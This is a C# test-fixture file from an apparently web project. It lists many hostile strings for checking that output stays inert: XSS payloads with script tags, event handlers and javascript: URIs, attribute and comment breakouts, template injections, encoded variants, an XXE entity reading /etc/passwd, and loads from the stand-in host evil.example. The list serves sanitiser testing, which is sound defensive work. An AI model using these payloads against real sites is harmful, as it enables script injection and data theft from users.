using System.Collections.Immutable;

namespace Pactwatch.Web.Tests.Samples;

/// <summary>Texts that would call alert, load something, send something or break out of where they stand, were they anything but text.</summary>
internal static class HostileVectors
{
    public static readonly ImmutableArray<string> All =
    [
        // Elements with a script or an event.
        "<script>alert(1)</script>", "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>", "<script/src=//evil.example/x.js>", "<script\u000C>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script>alert(1)//",
        "<script type=module>import 'http://evil.example/x.js'</script>", "<script type=importmap>{\"imports\":{\"a\":\"http://evil.example/\"}}</script>", "<script>\u2028alert(1)</script>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<img src=x onerror=alert(1)>", "<img src=x onerror\t=\talert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=`x` onerror=`alert(1)`>", "<img \"\"\"><script>alert(1)</script>\">", "<img src=x:x onerror=alert(1)//",
        "<IMG LOWSRC=\"javascript:alert(1)\">", "<img srcset=\"http://evil.example/1x 1x\">", "<img src=http://evil.example/pixel.gif>", "<image src=x onerror=alert(1)>",
        "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><script xlink:href=\"data:,alert(1)\"/></svg>", "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
        "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\">", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set onbegin=alert(1) attributeName=x to=y>", "<svg><foreignObject><iframe onload=alert(1)>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg><image href=http://evil.example/x.png />", "<svg><discard onbegin=alert(1)>", "<math><mtext></p><img src=x onerror=alert(1)>", "<math href=javascript:alert(1)>x</math>", "<math><mglyph><style><img src=x onerror=alert(1)>",
        "<body onload=alert(1)>", "<body onpageshow=alert(1)>", "<frameset onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc=\"<script>alert(1)</script>\">", "<iframe src=http://evil.example/>", "<embed src=javascript:alert(1)>",
        "<object data=http://evil.example/>", "<object data=javascript:alert(1)>", "<applet code=x>", "<video><source onerror=alert(1)>", "<video src=http://evil.example/v autoplay onloadstart=alert(1)>", "<video poster=http://evil.example/p>", "<audio src=x onerror=alert(1)>",
        "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>", "<button popovertarget=x onbeforetoggle=alert(1)>x",
        "<dialog open onclose=alert(1)>", "<x onclick=alert(1) style=position:fixed;inset:0>", "<x contenteditable autofocus tabindex=0 onfocus=alert(1)>", "<x onanimationstart=alert(1) style=animation-name:x>", "<x onpointerrawupdate=alert(1)>", "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
        "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a href=\"\u0001javascript:alert(1)\">x</a>", "<a href=data:text/html,<script>alert(1)</script>>x</a>", "<a href=http://evil.example ping=http://evil.example/p>x</a>",
        "<form action=http://evil.example/><input name=a autofocus onfocus=alert(1)>", "<form action=javascript:alert(1)><button>x", "<button formaction=javascript:alert(1)>x", "<isindex action=javascript:alert(1) type=image>",
        // What loads or leads away without a script.
        "<link rel=stylesheet href=http://evil.example/x.css>", "<link rel=prefetch href=http://evil.example/>", "<link rel=dns-prefetch href=//evil.example>", "<link rel=preconnect href=//evil.example>", "<base href=http://evil.example/>",
        "<meta http-equiv=refresh content=0;url=http://evil.example/>", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<style>*{background:url(http://evil.example)}</style>",
        "<style>@import url(http://evil.example/x.css);</style>", "<p style=\"background:url(http://evil.example/x)\">", "<x style=\"behavior:url(#default#time2)\" onbegin=alert(1)>", "<table background=http://evil.example/x>", "<bgsound src=http://evil.example/x>",
        // Out of an attribute, a title, a style, a comment, a script or a template.
        "\"><script>alert(1)</script>", "\"><svg onload=alert(1)>", "' onmouseover='alert(1)", "\" onmouseover=\"alert(1)", "\" autofocus onfocus=alert(1) x=\"", "` onmouseover=alert(1) `", "'\"--></style></script></title></textarea><svg onload=alert(1)>",
        "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</script><script>alert(1)</script>", "</textarea><img src=x onerror=alert(1)>", "</template><img src=x onerror=alert(1)>", "</bdi></p></main><script>alert(1)</script>",
        "<!--<script>alert(1)//-->", "--><script>alert(1)</script>", "--!><img src=x onerror=alert(1)>", "<!--><img src=x onerror=alert(1)>", "]]><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=\"1.0\"?><script>alert(1)</script>", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "//evil.example/x", "http://evil.example/\" onmouseover=\"alert(1)", "https://evil.example/?q=<script>alert(1)</script>#\"'><",
        "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "@((MarkupString)\"<b>\")", "[[alert(1)]]", "';alert(1);//", "\\';alert(1);//", "\");alert(1);(\"",
        // Already encoded, or in characters that something along the way could turn into others.
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)", "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E", "\u2039script\u203Aalert(1)",
        "\u202E<script>alert(1)</script>\u202C", "\0<script>alert(1)</script>", "<scr\0ipt>alert(1)</scr\0ipt>", "\uFEFF<script>alert(1)</script>", "<\u200Bscript>alert(1)</script>", "\u0085<img src=x onerror=alert(1)>", "=HYPERLINK(\"http://evil.example\",\"x\")",
    ];
}
